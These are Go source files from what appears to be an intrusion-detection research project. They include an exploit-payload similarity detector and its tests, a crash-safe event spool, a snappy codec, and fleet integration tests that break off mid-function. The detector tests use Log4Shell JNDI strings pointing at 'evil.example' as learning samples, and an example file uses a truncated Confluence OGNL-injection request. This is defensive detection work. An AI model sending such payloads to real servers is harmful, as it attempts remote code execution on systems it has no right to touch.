// sitting just under the threshold is rejected; nudging the threshold down
// admits it — the boundary itself, not just far-off noise.
func TestClassifyNearMissBelowThreshold(t *testing.T) {
	d := NewDetector()
	sample := []byte("${jndi:ldap://evil.example/a}")
	d.Learn("CVE-2021-44228", sample, 443)

	// A probe diluted with unrelated shingles: some overlap, mostly novel.
	probe := []byte("${jndi:ldap-PADDING-PADDING-PADDING-PADDING-PADDING}")
	sim := Jaccard(NewFingerprint(probe), NewFingerprint(sample))
	if sim <= 0 || sim >= 0.5 {
		t.Fatalf("probe similarity %.3f outside the near-miss band (0, 0.5)", sim)
	}
	if m, ok := d.Classify(probe, 443); ok {
		t.Fatalf("near miss (%.3f) cleared the default threshold: %+v", sim, m)
	}
	d.MatchThreshold = sim // exactly at the boundary: >= admits
	m, ok := d.Classify(probe, 443)
	if !ok || m.Family != "CVE-2021-44228" {
		t.Fatalf("threshold at similarity did not admit: ok=%v %+v", ok, m)
	}
}

// TestConcurrentLearnClassify drives Learn and Classify/Scan/Families from
// many goroutines; run under -race this is the locking regression test for
// a sensor that keeps learning while it classifies.
func TestConcurrentLearnClassify(t *testing.T) {
	d := NewDetector()
	d.Learn("CVE-2021-44228", []byte("${jndi:ldap://evil.example/a}"), 443)

	var wg sync.WaitGroup
	stop := make(chan struct{})
	for w := 0; w < 4; w++ {
		wg.Add(2)
		go func(w int) {
			defer wg.Done()
			for i := 0; ; i++ {
				select {
				case <-stop:
					return
				default:
				}
				payload := fmt.Sprintf("${jndi:ldap://host%d-%d.example/x}", w, i)
				d.Learn("CVE-2021-44228", []byte(payload), uint16(1000+i%10))
			}
		}(w)
		go func(w int) {
			defer wg.Done()
			for i := 0; ; i++ {
				select {
				case <-stop:
					return
				default:
				}
				d.Classify([]byte("${jndi:ldap://evil.example/b}"), uint16(i%2000))
				d.Families()
				if i%10 == 0 {
					d.Scan([][]byte{[]byte("${jndi:ldap://evil.example/b}")}, []uint16{80})
				}
			}
		}(w)
	}
	time.Sleep(100 * time.Millisecond)
	close(stop)
	wg.Wait()
	if got := d.Families(); len(got) != 1 || got[0] != "CVE-2021-44228" {
		t.Fatalf("families after churn: %v", got)
	}
	if m, ok := d.Classify([]byte("${jndi:ldap://evil.example/b}"), 80); !ok || !m.NovelPort {
		t.Fatalf("post-churn classify: ok=%v %+v", ok, m)
	}
}
