package transfer_test

import (
	"fmt"

	"repro/internal/transfer"
)

func ExampleDetector_Classify() {
	d := transfer.NewDetector()
	exploit := []byte("GET /%24%7B(%23a%3D%40org.apache...)%7D/ HTTP/1.1\r\nHost: t\r\n\r\n")
	d.Learn("CVE-2022-26134", exploit, 8090)

	// The same payload shape against a port the family never targeted.
	m, ok := d.Classify(exploit, 8080)
	fmt.Println(ok, m.Family, m.NovelPort)
	// Output: true CVE-2022-26134 true
}
