// Package transfer implements the paper's Finding-19 direction: detecting
// the application of known exploit payloads to novel domains. The
// Confluence case study showed generic OGNL-injection scanning — payloads
// that were not aimed at Confluence (wrong port, no product targeting) yet
// would have exploited it — and the paper proposes using such
// transferability to proactively discover exposures.
//
// The detector builds a structural fingerprint per known exploit family
// (from sample payloads) and classifies new sessions by Jaccard similarity
// over normalized character shingles. A match at high similarity on a port
// the family has never targeted is exactly the "known payload, novel
// domain" signal the paper describes.
package transfer

import (
	"sort"
	"sync"
)

// shingleLen is the character n-gram length for fingerprints. Four bytes
// balances specificity (catches `${(#a=` style operators) against
// robustness to per-payload variation (hosts, tokens).
const shingleLen = 4

// Fingerprint is a normalized shingle set.
type Fingerprint map[string]struct{}

// normalize maps a payload onto its structural skeleton: ASCII lowercased,
// digit runs collapsed to '#', so scanner-varied values (hosts, ports,
// tokens) do not dominate similarity.
func normalize(payload []byte) []byte {
	out := make([]byte, 0, len(payload))
	lastDigit := false
	for _, c := range payload {
		switch {
		case c >= 'A' && c <= 'Z':
			out = append(out, c+'a'-'A')
			lastDigit = false
		case c >= '0' && c <= '9':
			if !lastDigit {
				out = append(out, '#')
			}
			lastDigit = true
		default:
			out = append(out, c)
			lastDigit = false
		}
	}
	return out
}

// NewFingerprint computes the shingle set of one payload.
func NewFingerprint(payload []byte) Fingerprint {
	n := normalize(payload)
	fp := Fingerprint{}
	for i := 0; i+shingleLen <= len(n); i++ {
		fp[string(n[i:i+shingleLen])] = struct{}{}
	}
	return fp
}

// Jaccard returns |a∩b| / |a∪b| (0 for two empty sets).
func Jaccard(a, b Fingerprint) float64 {
	if len(a) == 0 && len(b) == 0 {
		return 0
	}
	small, large := a, b
	if len(small) > len(large) {
		small, large = large, small
	}
	inter := 0
	for s := range small {
		if _, ok := large[s]; ok {
			inter++
		}
	}
	union := len(a) + len(b) - inter
	return float64(inter) / float64(union)
}

// Family is one known exploit cluster.
type Family struct {
	// Name identifies the family (typically "CVE-...").
	Name string
	// samples are the fingerprints of known payload instances.
	samples []Fingerprint
	// ports the family has been observed targeting.
	ports map[uint16]int
}

// Detector classifies sessions against known families. Learn and the
// classification methods may be called concurrently: a live sensor keeps
// learning from confirmed exploit sessions while classifying new ones.
type Detector struct {
	mu       sync.RWMutex
	families []*Family
	// MatchThreshold is the minimum similarity to report a family match.
	// Zero means the default of 0.5. Set it before sharing the detector
	// across goroutines.
	MatchThreshold float64
}

// NewDetector returns an empty detector.
func NewDetector() *Detector { return &Detector{} }

// Learn adds one known exploit observation (payload + targeted port) to a
// family, creating the family on first sight.
func (d *Detector) Learn(family string, payload []byte, port uint16) {
	fp := NewFingerprint(payload)
	d.mu.Lock()
	defer d.mu.Unlock()
	f := d.family(family)
	f.samples = append(f.samples, fp)
	f.ports[port]++
}

func (d *Detector) family(name string) *Family {
	for _, f := range d.families {
		if f.Name == name {
			return f
		}
	}
	f := &Family{Name: name, ports: map[uint16]int{}}
	d.families = append(d.families, f)
	return f
}

// Families returns the known family names.
func (d *Detector) Families() []string {
	d.mu.RLock()
	defer d.mu.RUnlock()
	out := make([]string, len(d.families))
	for i, f := range d.families {
		out[i] = f.Name
	}
	sort.Strings(out)
	return out
}

// Match is a classification result.
type Match struct {
	// Family is the best-matching known exploit family.
	Family string
	// Similarity is the maximum Jaccard similarity against the family's
	// samples.
	Similarity float64
	// NovelPort reports that the session targeted a port the family has
	// never been seen on — the "known exploit payload, novel domain"
	// signal of Finding 19.
	NovelPort bool
	// Port is the targeted port.
	Port uint16
}

// Classify scores a session payload against every family and returns the
// best match, if any clears the threshold.
func (d *Detector) Classify(payload []byte, port uint16) (Match, bool) {
	threshold := d.MatchThreshold
	if threshold == 0 {
		threshold = 0.5
	}
	fp := NewFingerprint(payload)
	d.mu.RLock()
	defer d.mu.RUnlock()
	var best Match
	found := false
	for _, f := range d.families {
		for _, s := range f.samples {
			sim := Jaccard(fp, s)
			if sim >= threshold && (!found || sim > best.Similarity) {
				_, seen := f.ports[port]
				best = Match{Family: f.Name, Similarity: sim, NovelPort: !seen, Port: port}
				found = true
			}
		}
	}
	return best, found
}

// TransferReport summarizes a scan for cross-domain exploit application.
type TransferReport struct {
	// Sessions scanned and matched.
	Sessions int
	Matched  int
	// NovelDomain are matches on ports their family never targeted.
	NovelDomain []Match
}

// Scan classifies a batch of (payload, port) observations.
func (d *Detector) Scan(payloads [][]byte, ports []uint16) TransferReport {
	rep := TransferReport{}
	for i := range payloads {
		rep.Sessions++
		var port uint16
		if i < len(ports) {
			port = ports[i]
		}
		m, ok := d.Classify(payloads[i], port)
		if !ok {
			continue
		}
		rep.Matched++
		if m.NovelPort {
			rep.NovelDomain = append(rep.NovelDomain, m)
		}
	}
	return rep
}
