package fleet

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"os"
	"path/filepath"
	"sync"

	"repro/internal/eventstore"
	"repro/internal/fault"
	"repro/internal/ids"
)

// spool is the sensor's durable outbound queue: every batch headed upstream
// is first appended (with its assigned sequence number) to a crash-safe
// framed log, so a dead coordinator — or a dead sensor — loses nothing. The
// log uses the eventstore's record framing and the same recovery rule: on
// open, replay until the first torn frame and truncate there. Every frame
// written honors the scan's record-size limit (Add splits larger batches),
// and recovery refuses — loudly, instead of truncating — a frame that is
// intact but oversized, so the truncation rule can never eat valid batches.
//
// Acks only advance an in-memory watermark; the file compacts (rewrites with
// just the unacked suffix) once the acked prefix dominates, so steady-state
// disk use tracks the unacked window, not history.
type spool struct {
	mu      sync.Mutex
	fs      fault.FS
	f       fault.File
	path    string
	size    int64
	pending []spoolBatch // unacked, ascending seq
	acked   uint64       // highest acked (and pruned) sequence
	lastSeq uint64       // highest assigned sequence
	// ackedBytes estimates the on-disk bytes belonging to acked batches,
	// the compaction trigger.
	ackedBytes int64
	// encBuf and frameBuf are Add's reusable encode and frame scratch —
	// spooling is once per shipped batch, so per-call allocations here show
	// up directly in sensor throughput.
	encBuf   []byte
	frameBuf []byte
}

type spoolBatch struct {
	seq    uint64
	events []ids.Event
	bytes  int64 // on-disk footprint, for compaction accounting
}

var spoolMagic = [8]byte{'F', 'S', 'P', 'L', 0x00, 0x01, '\n'}

// spoolCompactAt triggers a rewrite once this many acked bytes accumulate.
const spoolCompactAt = 4 << 20

// spoolMaxPayload caps one spooled frame's payload: recovery scans with the
// eventstore's record limit, so a larger frame — however valid when written
// — would read back as corruption, truncating every batch from it onward.
// Add splits bigger appends across consecutive sequence numbers instead.
const spoolMaxPayload = eventstore.MaxRecordLen

// openSpool opens (creating if needed) the spool log in dir.
func openSpool(fs fault.FS, dir string) (*spool, error) {
	fs = fault.Or(fs)
	if err := fs.MkdirAll(dir, 0o755); err != nil {
		return nil, err
	}
	path := filepath.Join(dir, "spool.log")
	f, err := fs.OpenFile(path, os.O_CREATE|os.O_RDWR, 0o644)
	if err != nil {
		return nil, err
	}
	raw, err := fs.ReadFile(path)
	if err != nil {
		f.Close()
		return nil, err
	}
	sp := &spool{fs: fs, f: f, path: path}
	switch {
	case len(raw) < len(spoolMagic) && bytes.Equal(raw, spoolMagic[:len(raw)]):
		// Empty, or a strict prefix of the magic: a crash tore the file's
		// creation before the header fully reached disk. Nothing else can
		// ever have been written, so reinitialize instead of refusing to
		// open (which would wedge every restart until manual cleanup).
		if _, err := f.Write(spoolMagic[:]); err != nil {
			f.Close()
			return nil, err
		}
		if err := f.Truncate(int64(len(spoolMagic))); err != nil {
			f.Close()
			return nil, err
		}
		sp.size = int64(len(spoolMagic))
	case len(raw) < len(spoolMagic) || [8]byte(raw[:8]) != spoolMagic:
		f.Close()
		return nil, fmt.Errorf("fleet: %s is not a spool log", path)
	default:
		good, _, err := eventstore.ScanFrames(raw[len(spoolMagic):], func(payload []byte) error {
			b, err := decodeSpoolBatch(payload)
			if err != nil {
				return err
			}
			b.bytes = int64(len(payload) + 8)
			if b.seq > sp.lastSeq {
				sp.lastSeq = b.seq
			}
			sp.pending = append(sp.pending, b)
			return nil
		})
		if err != nil {
			f.Close()
			return nil, fmt.Errorf("fleet: %s: %w", path, err)
		}
		sp.size = int64(len(spoolMagic) + good)
		if sp.size < int64(len(raw)) {
			if oversizedFrame(raw[sp.size:]) {
				f.Close()
				return nil, fmt.Errorf("fleet: %s: intact frame beyond the %d-byte scan limit at offset %d; refusing to truncate unacked batches", path, spoolMaxPayload, sp.size)
			}
			if err := f.Truncate(sp.size); err != nil {
				f.Close()
				return nil, err
			}
		}
	}
	if _, err := f.Seek(sp.size, 0); err != nil {
		f.Close()
		return nil, err
	}
	return sp, nil
}

// oversizedFrame reports whether b begins with a complete, CRC-valid frame
// whose payload exceeds the recovery scan limit. ScanFrames stops at such a
// frame exactly as it stops at a torn tail, but the two must not be treated
// alike: a torn tail is a crashed append (safe to truncate), while an intact
// oversized frame is real spooled data whose truncation would silently drop
// every unacked batch from it onward and regress lastSeq into already-acked
// sequence space.
func oversizedFrame(b []byte) bool {
	if len(b) < 8 {
		return false
	}
	n := binary.LittleEndian.Uint32(b)
	if uint64(n) <= spoolMaxPayload || uint64(len(b)-8) < uint64(n) {
		return false
	}
	sum := binary.LittleEndian.Uint32(b[4:8])
	return crc32.Checksum(b[8:8+int(n)], wireCRC) == sum
}

// spool batch payload: u64 seq | u32 count | framed events.
func encodeSpoolBatch(seq uint64, events []ids.Event) []byte {
	buf := binary.LittleEndian.AppendUint64(nil, seq)
	buf = binary.LittleEndian.AppendUint32(buf, uint32(len(events)))
	var tmp []byte
	for i := range events {
		tmp = eventstore.EncodeEvent(tmp[:0], &events[i])
		buf = binary.LittleEndian.AppendUint32(buf, uint32(len(tmp)))
		buf = append(buf, tmp...)
	}
	return buf
}

// encodeSpoolBatchCapped encodes as many leading events as fit under the
// spoolMaxPayload cap with sequence seq, returning the payload and the
// events left over for the next frame. A single event too large for a frame
// of its own is an error (encoded events are bounded far below the cap by
// their u16-length strings; this guards against a codec change breaking that
// invariant silently).
func encodeSpoolBatchCapped(dst []byte, seq uint64, events []ids.Event) ([]byte, []ids.Event, error) {
	buf := binary.LittleEndian.AppendUint64(dst[:0], seq)
	buf = binary.LittleEndian.AppendUint32(buf, 0) // count, patched below
	var tmp []byte
	n := 0
	for i := range events {
		tmp = eventstore.EncodeEvent(tmp[:0], &events[i])
		if len(buf)+4+len(tmp) > spoolMaxPayload {
			if n == 0 {
				return nil, nil, fmt.Errorf("fleet: event encodes to %d bytes, beyond the %d-byte spool frame cap", len(tmp), spoolMaxPayload)
			}
			break
		}
		buf = binary.LittleEndian.AppendUint32(buf, uint32(len(tmp)))
		buf = append(buf, tmp...)
		n++
	}
	binary.LittleEndian.PutUint32(buf[8:12], uint32(n))
	return buf, events[n:], nil
}

func decodeSpoolBatch(b []byte) (spoolBatch, error) {
	var out spoolBatch
	if len(b) < 12 {
		return out, fmt.Errorf("fleet: spool batch header truncated")
	}
	out.seq = binary.LittleEndian.Uint64(b)
	count := binary.LittleEndian.Uint32(b[8:12])
	b = b[12:]
	out.events = make([]ids.Event, 0, count)
	for len(b) > 0 {
		if len(b) < 4 {
			return out, fmt.Errorf("fleet: spool event frame truncated")
		}
		n := binary.LittleEndian.Uint32(b)
		b = b[4:]
		if uint32(len(b)) < n {
			return out, fmt.Errorf("fleet: spool event frame overruns record")
		}
		ev, err := eventstore.DecodeEvent(b[:n])
		if err != nil {
			return out, err
		}
		out.events = append(out.events, ev)
		b = b[n:]
	}
	if uint32(len(out.events)) != count {
		return out, fmt.Errorf("fleet: spool batch holds %d events, declared %d", len(out.events), count)
	}
	return out, nil
}

// Add assigns sequence numbers to events, appends them durably, and returns
// the last assigned sequence. A batch whose encoding would exceed the
// recovery scan limit is split across consecutive sequence numbers, so every
// frame written is one recovery can read back.
func (sp *spool) Add(events []ids.Event) (uint64, error) {
	sp.mu.Lock()
	defer sp.mu.Unlock()
	for len(events) > 0 {
		seq := sp.lastSeq + 1
		payload, rest, err := encodeSpoolBatchCapped(sp.encBuf, seq, events)
		if err != nil {
			return 0, err
		}
		sp.encBuf = payload
		frame := eventstore.AppendFrame(sp.frameBuf[:0], payload)
		sp.frameBuf = frame
		if _, err := sp.f.Write(frame); err != nil {
			return 0, fmt.Errorf("fleet: spooling batch %d: %w", seq, err)
		}
		// Copy the kept events: pending outlives this call and must not
		// alias a slice the caller still owns.
		n := len(events) - len(rest)
		evs := append([]ids.Event(nil), events[:n]...)
		sp.size += int64(len(frame))
		sp.lastSeq = seq
		sp.pending = append(sp.pending, spoolBatch{seq: seq, events: evs, bytes: int64(len(frame))})
		events = rest
	}
	return sp.lastSeq, nil
}

// AckTo drops every batch with seq <= w. Compaction happens opportunistically
// once acked bytes both pass the threshold and dominate the file, so each
// rewrite retires at least as many bytes as it copies — without the dominance
// check, a deep pending backlog would be re-encoded on every threshold
// crossing, turning acks quadratic.
func (sp *spool) AckTo(w uint64) error {
	sp.mu.Lock()
	defer sp.mu.Unlock()
	if w <= sp.acked {
		return nil
	}
	for len(sp.pending) > 0 && sp.pending[0].seq <= w {
		sp.ackedBytes += sp.pending[0].bytes
		sp.pending = sp.pending[1:]
	}
	if w > sp.acked {
		sp.acked = w
	}
	if w > sp.lastSeq {
		// The coordinator has applied sequences this spool no longer
		// remembers (state lost to a torn tail or a fresh StateDir). Adopt
		// its numbering so freshly assigned sequences never collide with
		// already-applied ones and get dropped as duplicates.
		sp.lastSeq = w
	}
	if sp.ackedBytes >= spoolCompactAt && sp.ackedBytes*2 >= sp.size {
		return sp.compactLocked()
	}
	return nil
}

// compactLocked rewrites the log with only the unacked suffix. Acks are
// cumulative, so the pending batches are always a contiguous tail of the
// file; the rewrite copies that byte range as-is rather than re-encoding
// every pending event (which made deep-backlog compaction the hottest path
// in the whole shipper). Failure paths close the tmp handle and delete the
// tmp file — a compaction abandoned to ENOSPC must not leak either.
func (sp *spool) compactLocked() error {
	var pendBytes int64
	for _, b := range sp.pending {
		pendBytes += b.bytes
	}
	tmp := sp.path + ".tmp"
	f, err := sp.fs.OpenFile(tmp, os.O_CREATE|os.O_TRUNC|os.O_RDWR, 0o644)
	if err != nil {
		return err
	}
	abort := func(err error) error {
		f.Close()
		sp.fs.Remove(tmp)
		return err
	}
	if _, err := f.Write(spoolMagic[:]); err != nil {
		return abort(err)
	}
	if pendBytes > 0 {
		src := io.NewSectionReader(sp.f, sp.size-pendBytes, pendBytes)
		if _, err := io.Copy(f, src); err != nil {
			return abort(err)
		}
	}
	// Sync before rename: without it the rename can be journaled while the
	// tmp's data blocks never reach the platter, and a power loss replaces
	// the spool with an empty file — every unacked (undelivered) batch gone.
	if err := f.Sync(); err != nil {
		return abort(err)
	}
	size := int64(len(spoolMagic)) + pendBytes
	if err := sp.fs.Rename(tmp, sp.path); err != nil {
		return abort(err)
	}
	old := sp.f
	sp.f = f
	sp.size = size
	sp.ackedBytes = 0
	return old.Close()
}

// NextAfter returns the first pending batch with seq > after.
func (sp *spool) NextAfter(after uint64) (spoolBatch, bool) {
	sp.mu.Lock()
	defer sp.mu.Unlock()
	for _, b := range sp.pending {
		if b.seq > after {
			return b, true
		}
	}
	return spoolBatch{}, false
}

// Depth returns how many batches are spooled but unacked.
func (sp *spool) Depth() int {
	sp.mu.Lock()
	defer sp.mu.Unlock()
	return len(sp.pending)
}

// LastSeq returns the highest assigned sequence number.
func (sp *spool) LastSeq() uint64 {
	sp.mu.Lock()
	defer sp.mu.Unlock()
	return sp.lastSeq
}

// Acked returns the highest acked sequence number.
func (sp *spool) Acked() uint64 {
	sp.mu.Lock()
	defer sp.mu.Unlock()
	return sp.acked
}

// Sync fsyncs the log.
func (sp *spool) Sync() error {
	sp.mu.Lock()
	defer sp.mu.Unlock()
	return sp.f.Sync()
}

// Close syncs and closes the log.
func (sp *spool) Close() error {
	sp.mu.Lock()
	defer sp.mu.Unlock()
	if err := sp.f.Sync(); err != nil {
		sp.f.Close()
		return err
	}
	return sp.f.Close()
}
