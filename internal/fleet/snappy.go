package fleet

import (
	"encoding/binary"
	"fmt"
	"math"
	"sync"
)

// An in-repo implementation of the snappy block format
// (https://github.com/google/snappy/blob/main/format_description.txt) so the
// wire protocol gets an LZ77 fast path without any dependency. The encoder is
// a greedy single-pass matcher over a small hash table — the classic snappy
// shape — and emits only literal, copy1, and copy2 elements; the decoder
// additionally accepts copy4 for compatibility with other encoders.
//
// A batch of encoded events is highly repetitive (shared rule messages, CVE
// strings, adjacent timestamps), so even this simple matcher routinely beats
// 3x while staying far cheaper than deflate.

const (
	snapTagLiteral = 0x00
	snapTagCopy1   = 0x01
	snapTagCopy2   = 0x02
	snapTagCopy4   = 0x03

	// snapMaxOffset is the largest back-reference the encoder emits (copy2's
	// u16 offset); inputs longer than this still encode fine, matches just
	// never reach further back.
	snapMaxOffset = 1<<16 - 1

	// snapTableBits sizes the candidate table: 2^14 entries is the stock
	// snappy working set, fitting in L1/L2.
	snapTableBits = 14
)

// snapTable is a reusable candidate table. Initializing 64KB of entries per
// encode call costs more than compressing a typical event batch, so tables
// are pooled and carry a running base offset: an entry is live only if its
// value exceeds the current call's base, which makes every entry left by an
// earlier encode self-invalidating — no per-call clear. The table re-zeroes
// only when base nears overflow (once per ~2GB encoded through it).
type snapTable struct {
	entries [1 << snapTableBits]int32
	base    int32
}

var snapTablePool = sync.Pool{New: func() any { return new(snapTable) }}

// snappyEncode appends the snappy-block encoding of src to dst and returns
// the extended slice. The empty input encodes to the single byte 0x00 (a
// zero-length preamble).
func snappyEncode(dst, src []byte) []byte {
	dst = binary.AppendUvarint(dst, uint64(len(src)))
	if len(src) == 0 {
		return dst
	}
	if len(src) < 4 {
		return snapEmitLiteral(dst, src)
	}

	t := snapTablePool.Get().(*snapTable)
	if t.base > math.MaxInt32-int32(len(src))-1 {
		*t = snapTable{}
	}
	base := t.base
	t.base = base + int32(len(src)) + 1
	hash := func(u uint32) uint32 {
		return (u * 0x1e35a7bd) >> (32 - snapTableBits)
	}

	s := 0   // next byte to consider
	lit := 0 // start of pending literal run
	limit := len(src) - 4
	for s <= limit {
		cur := binary.LittleEndian.Uint32(src[s:])
		h := hash(cur)
		cand := int(t.entries[h]-base) - 1 // negative when empty or stale
		t.entries[h] = base + 1 + int32(s)
		if cand < 0 || s-cand > snapMaxOffset ||
			binary.LittleEndian.Uint32(src[cand:]) != cur {
			s++
			continue
		}
		// Extend the match forward.
		length := 4
		for s+length < len(src) && src[cand+length] == src[s+length] {
			length++
		}
		if lit < s {
			dst = snapEmitLiteral(dst, src[lit:s])
		}
		dst = snapEmitCopy(dst, s-cand, length)
		s += length
		lit = s
	}
	if lit < len(src) {
		dst = snapEmitLiteral(dst, src[lit:])
	}
	snapTablePool.Put(t)
	return dst
}

func snapEmitLiteral(dst, lit []byte) []byte {
	n := len(lit) - 1
	switch {
	case n < 60:
		dst = append(dst, byte(n)<<2|snapTagLiteral)
	case n < 1<<8:
		dst = append(dst, 60<<2|snapTagLiteral, byte(n))
	case n < 1<<16:
		dst = append(dst, 61<<2|snapTagLiteral, byte(n), byte(n>>8))
	case n < 1<<24:
		dst = append(dst, 62<<2|snapTagLiteral, byte(n), byte(n>>8), byte(n>>16))
	default:
		dst = append(dst, 63<<2|snapTagLiteral, byte(n), byte(n>>8), byte(n>>16), byte(n>>24))
	}
	return append(dst, lit...)
}

func snapEmitCopy(dst []byte, offset, length int) []byte {
	// Long matches split into 64-byte copy2 elements; the tail never drops
	// below 4 (the copy1 minimum), hence the 68/64 staging.
	for length >= 68 {
		dst = append(dst, 63<<2|snapTagCopy2, byte(offset), byte(offset>>8))
		length -= 64
	}
	if length > 64 {
		dst = append(dst, 59<<2|snapTagCopy2, byte(offset), byte(offset>>8))
		length -= 60
	}
	if length >= 12 || offset >= 2048 {
		return append(dst, byte(length-1)<<2|snapTagCopy2, byte(offset), byte(offset>>8))
	}
	return append(dst, byte(offset>>8)<<5|byte(length-4)<<2|snapTagCopy1, byte(offset))
}

// snappyDecode decodes a snappy block, rejecting (never panicking on) any
// malformed input and any preamble larger than maxLen, since blocks arrive
// off the network.
func snappyDecode(src []byte, maxLen int) ([]byte, error) {
	return snappyDecodeInto(nil, src, maxLen)
}

// snappyDecodeInto is snappyDecode appending into dst's storage (dst is
// overwritten from its start), so a caller decoding in a loop — the
// coordinator's decode workers — reuses one scratch buffer instead of
// allocating per block.
func snappyDecodeInto(dst, src []byte, maxLen int) ([]byte, error) {
	want, n := binary.Uvarint(src)
	if n <= 0 {
		return nil, fmt.Errorf("fleet: snappy: bad length preamble")
	}
	if want > uint64(maxLen) {
		return nil, fmt.Errorf("fleet: snappy: declared length %d exceeds limit %d", want, maxLen)
	}
	src = src[n:]
	out := dst[:0]
	if uint64(cap(out)) < want {
		out = make([]byte, 0, want)
	}
	for len(src) > 0 {
		tag := src[0]
		switch tag & 0x03 {
		case snapTagLiteral:
			length := int(tag >> 2)
			extra := 0
			if length >= 60 {
				extra = length - 59 // 1..4 length bytes follow
				if len(src) < 1+extra {
					return nil, fmt.Errorf("fleet: snappy: truncated literal header")
				}
				length = 0
				for i := extra; i > 0; i-- {
					length = length<<8 | int(src[i])
				}
			}
			length++
			src = src[1+extra:]
			if len(src) < length {
				return nil, fmt.Errorf("fleet: snappy: truncated literal body")
			}
			out = append(out, src[:length]...)
			src = src[length:]
		case snapTagCopy1:
			if len(src) < 2 {
				return nil, fmt.Errorf("fleet: snappy: truncated copy1")
			}
			length := 4 + int(tag>>2&0x07)
			offset := int(tag>>5)<<8 | int(src[1])
			src = src[2:]
			var err error
			if out, err = snapCopy(out, offset, length); err != nil {
				return nil, err
			}
		case snapTagCopy2:
			if len(src) < 3 {
				return nil, fmt.Errorf("fleet: snappy: truncated copy2")
			}
			length := 1 + int(tag>>2)
			offset := int(binary.LittleEndian.Uint16(src[1:3]))
			src = src[3:]
			var err error
			if out, err = snapCopy(out, offset, length); err != nil {
				return nil, err
			}
		default: // snapTagCopy4
			if len(src) < 5 {
				return nil, fmt.Errorf("fleet: snappy: truncated copy4")
			}
			length := 1 + int(tag>>2)
			offset := int(binary.LittleEndian.Uint32(src[1:5]))
			src = src[5:]
			var err error
			if out, err = snapCopy(out, offset, length); err != nil {
				return nil, err
			}
		}
		if uint64(len(out)) > want {
			return nil, fmt.Errorf("fleet: snappy: output exceeds declared length %d", want)
		}
	}
	if uint64(len(out)) != want {
		return nil, fmt.Errorf("fleet: snappy: decoded %d bytes, declared %d", len(out), want)
	}
	return out, nil
}

// snapCopy appends length bytes starting offset bytes back in out. Byte-wise
// so overlapping copies (offset < length, the RLE case) behave per spec.
func snapCopy(out []byte, offset, length int) ([]byte, error) {
	if offset <= 0 || offset > len(out) {
		return nil, fmt.Errorf("fleet: snappy: copy offset %d outside %d decoded bytes", offset, len(out))
	}
	for i := 0; i < length; i++ {
		out = append(out, out[len(out)-offset])
	}
	return out, nil
}
