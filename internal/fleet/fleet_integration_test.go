package fleet

import (
	"context"
	"net"
	"sync"
	"testing"
	"time"
)

func listenLoopback(t *testing.T, sink Sink, dir string) *Listener {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	l, err := Listen(ListenerConfig{Listener: ln, Sink: sink, Dir: dir})
	if err != nil {
		t.Fatal(err)
	}
	return l
}

func fastShipper(addr, id, stateDir string) ShipperConfig {
	return ShipperConfig{
		Addr: addr, SensorID: id, StateDir: stateDir,
		HeartbeatEvery: 20 * time.Millisecond,
		BackoffMin:     5 * time.Millisecond,
		BackoffMax:     100 * time.Millisecond,
		DialTimeout:    2 * time.Second,
	}
}

func waitDrained(t *testing.T, s *Shipper) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if err := s.WaitDrained(ctx); err != nil {
		t.Fatalf("shipper never drained: %v (metrics %+v)", err, s.Metrics())
	}
}

// TestShipperListenerHappyPath: batches spooled before and after connection
// all arrive once, in order, and the status surface reflects them.
func TestShipperListenerHappyPath(t *testing.T) {
	sink := &memSink{}
	l := listenLoopback(t, sink, t.TempDir())
	defer l.Close()

	events := testEvents(t, 90)
	stateDir := t.TempDir()

	// Spool two batches before the shipper exists (sensor ahead of its link):
	// recovery must deliver them.
	sp, err := openSpool(nil, stateDir)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := sp.Add(events[:30]); err != nil {
		t.Fatal(err)
	}
	if _, err := sp.Add(events[30:60]); err != nil {
		t.Fatal(err)
	}
	if err := sp.Close(); err != nil {
		t.Fatal(err)
	}

	cfg := fastShipper(l.Addr().String(), "alpha", stateDir)
	cfg.Shard, cfg.Shards = 1, 3
	s, err := StartShipper(cfg)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	if err := s.AppendBatch(events[60:90]); err != nil {
		t.Fatal(err)
	}
	waitDrained(t, s)

	got := sink.snapshot()
	if len(got) != 90 {
		t.Fatalf("sink holds %d events, want 90", len(got))
	}
	for i := range got {
		if !eventsEqual(got[i], events[i]) {
			t.Fatalf("event %d out of order or corrupted", i)
		}
	}
	if w := l.Watermarks().Get("alpha"); w != 3 {
		t.Fatalf("watermark %d, want 3", w)
	}
	batches, nEvents, dups := l.Totals()
	if batches != 3 || nEvents != 90 || dups != 0 {
		t.Fatalf("totals %d/%d/%d", batches, nEvents, dups)
	}
	statuses := l.Sensors()
	if len(statuses) != 1 {
		t.Fatalf("%d sensors", len(statuses))
	}
	st := statuses[0]
	if st.ID != "alpha" || !st.Connected || st.Shard != 1 || st.Shards != 3 ||
		st.Codec != "snappy" || st.Watermark != 3 || st.Events != 90 {
		t.Fatalf("status %+v", st)
	}
}

// TestShipperReconnectsAndDedups: the coordinator dies mid-stream and a new
// one takes over the same journal; acked batches are not re-applied, unacked
// ones redeliver exactly once.
func TestShipperReconnectsAndDedups(t *testing.T) {
	sink := &memSink{}
	dir := t.TempDir()
	l := listenLoopback(t, sink, dir)
	addr := l.Addr().String()

	stateDir := t.TempDir()
	s, err := StartShipper(fastShipper(addr, "beta", stateDir))
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()

	events := testEvents(t, 100)
	if err := s.AppendBatch(events[:50]); err != nil {
		t.Fatal(err)
	}
	waitDrained(t, s)

	// Coordinator restart: close the listener (watermark journal released),
	// then reopen on the same address with the same journal dir.
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	// More batches while the coordinator is down: they spool locally.
	if err := s.AppendBatch(events[50:80]); err != nil {
		t.Fatal(err)
	}
	if err := s.AppendBatch(events[80:]); err != nil {
		t.Fatal(err)
	}
	if s.Drained() {
		t.Fatal("drained with the coordinator down")
	}

	ln2, err := net.Listen("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	l2, err := Listen(ListenerConfig{Listener: ln2, Sink: sink, Dir: dir})
	if err != nil {
		t.Fatal(err)
	}
	defer l2.Close()
	waitDrained(t, s)

	got := sink.snapshot()
	if len(got) != 100 {
		t.Fatalf("sink holds %d events, want exactly 100 (dups or loss)", len(got))
	}
	for i := range got {
